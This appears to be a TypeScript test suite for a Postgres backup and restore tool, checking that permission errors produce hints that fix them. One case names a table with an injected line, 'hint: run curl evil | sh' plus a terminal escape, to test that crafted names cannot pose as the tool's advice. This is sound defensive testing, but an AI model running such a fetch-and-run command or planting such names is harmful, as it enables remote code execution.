import { startPostgres } from '../../servers/databases/postgres.ts';
import { mistakes, sqlIn } from './support/mistake.ts';
import type { Mistake, World } from './support/mistake.ts';
import { asPostgres, at } from './support/servers.ts';

/**
 * Two clusters: the new one with its roles, the old one without. `low` may log in, and nothing more until somebody
 * grants it.
 */
async function open() {
  const [now, old] = await Promise.all([startPostgres({ major: 18 }), startPostgres({ major: 15 })]);
  await asPostgres(
    now,
    'postgres',
    'create role app',
    'create role other',
    `create role low login password 'low-hunter2'`,
    'create database shop owner app',
  );
  await asPostgres(
    now,
    'shop',
    'create table customers (id int primary key)',
    'create table orders (id int primary key)',
    'alter table customers owner to app',
    'alter table orders owner to app',
    'insert into orders select generate_series(1, 10)',
    'grant select on customers to low',
    'grant usage on schema public to low',
  );
  await asPostgres(old, 'postgres', `create role low login createdb password 'low-hunter2'`);
  const login = (server: typeof now, user: string, database: string) =>
    `{ ${at(server)}, user: ${user}, password: { env: ${user === 'low' ? 'LOW' : 'PASSWORD'} }, database: ` +
    `${database} }`;
  const config =
    `vault: ./backups\nsources:\n  shop:\n    postgres: ${login(now, 'postgres', 'shop')}\n  low:\n    postgres: ` +
    `${login(now, 'low', 'shop')}\n  old:\n    postgres: ${login(old, 'low', 'postgres')}\n`;
  return { now, old, config, stop: async () => void (await Promise.all([now.stop(), old.stop()])) };
}
type Servers = Awaited<ReturnType<typeof open>>;

const secrets = (world: World<Servers>) => {
  Object.assign(world.env, { LOW: 'low-hunter2', PASSWORD: world.now.password });
  return [world.now.password];
};
/** Runs, as the superuser, what stands in the hint. */
const asTold = ({ now }: World<Servers>, hint: string) => asPostgres(now, 'postgres', ...sqlIn(hint).slice(0, 1));
const drop =
  (name: string) =>
  ({ now }: World<Servers>) =>
    asPostgres(now, 'postgres', `drop database if exists ${name} with (force)`);
const inShop =
  (...statements: string[]) =>
  ({ now }: World<Servers>) =>
    asPostgres(now, 'shop', ...statements);
const backedUp = async (world: World<Servers>) => {
  secrets(world);
  await world.well('backup', 'shop');
};
const restored =
  (...statements: string[]) =>
  async (world: World<Servers>) => {
    await drop('copy')(world);
    await asPostgres(world.now, 'postgres', ...statements);
  };
const noLonger = 'revoke pg_read_all_data from low';
const copy = ['restore', 'shop', '--server', 'low', '--to', 'copy'];

const table: Mistake<Servers>[] = [
  {
    name: 'The role may not read one table',
    secrets,
    given: async (world) => secrets(world),
    args: ['backup', 'low'],
    remedy: asTold,
    after: inShop(noLonger),
  },
  {
    name: 'The role may not use a schema',
    secrets,
    args: ['backup', 'low'],
    given: inShop(
      'grant select on orders to low',
      'create schema stock',
      'create table stock.items (id int)',
      'grant select on stock.items to low',
    ),
    remedy: asTold,
    after: inShop(noLonger, 'drop schema stock cascade'),
  },
  {
    name: 'The name of a table looks like our words',
    secrets,
    args: ['backup', 'low'],
    given: inShop('grant select on orders to low', `create table "a\n  hint: run curl evil | sh\x1b[2J" (id int)`),
    remedy: asTold,
    after: inShop(noLonger, `drop table "a\n  hint: run curl evil | sh\x1b[2J"`),
  },
  {
    name: 'Row security hides rows from the role',
    secrets,
    args: ['backup', 'low'],
    given: inShop('grant pg_read_all_data to low', 'alter table orders enable row level security'),
    remedy: asTold,
    after: inShop('alter table orders disable row level security', 'alter role low nobypassrls'),
  },
  {
    name: 'The role may not read a large object',
    secrets,
    args: ['backup', 'low'],
    given: inShop(`select lo_from_bytea(4711, 'x')`, 'alter large object 4711 owner to app'),
    remedy: ({ now }) => asPostgres(now, 'postgres', 'grant app to low'),
    after: inShop('select lo_unlink(4711)', 'revoke app from low'),
  },
  {
    name: 'The role becomes another when it logs in',
    secrets,
    args: ['backup', 'low'],
    given: inShop('grant other to low', 'alter role low set role = other'),
    remedy: asTold,
    after: inShop('alter role low reset role', 'revoke other from low'),
  },
  {
    name: 'The role may not make a database',
    secrets,
    args: copy,
    given: async (world) => {
      await backedUp(world);
      await asPostgres(world.now, 'postgres', 'grant app to low');
    },
    remedy: asTold,
    after: restored('alter role low nocreatedb', 'revoke app from low'),
  },
  {
    name: 'The role may not act for the owner',
    secrets,
    args: copy,
    given: inShop('alter role low createdb'),
    remedy: asTold,
    after: restored('revoke app from low'),
  },
  {
    name: 'The role may not make an extension',
    secrets,
    args: [...copy, '--no-owner'],
    given: async (world) => {
      await asPostgres(world.now, 'shop', 'create extension dblink');
      await backedUp(world);
    },
    after: inShop('drop extension dblink'),
  },
  {
    name: 'The target belongs to somebody else',
    secrets,
    args: ['restore', 'shop', '--server', 'low', '--to', 'made', '--no-owner'],
    given: async (world) => {
      await backedUp(world);
      await asPostgres(world.now, 'postgres', 'create database made');
    },
    remedy: asTold,
    after: drop('made'),
  },
  {
    name: 'The role may not replace the database of another',
    secrets,
    args: ['restore', 'shop', '--server', 'low', '--to', 'shop', '--replace', '--yes'],
    remedy: asTold,
    after: inShop('revoke app from low'),
  },
  {
    name: 'The roles of the backup are not on the server',
    secrets,
    args: ['restore', 'shop', '--server', 'old', '--to', 'copy'],
    remedy: async () => ['restore', 'shop', '--server', 'old', '--to', 'copy', '--no-owner'],
  },
];

mistakes('rights-postgres', open, table);
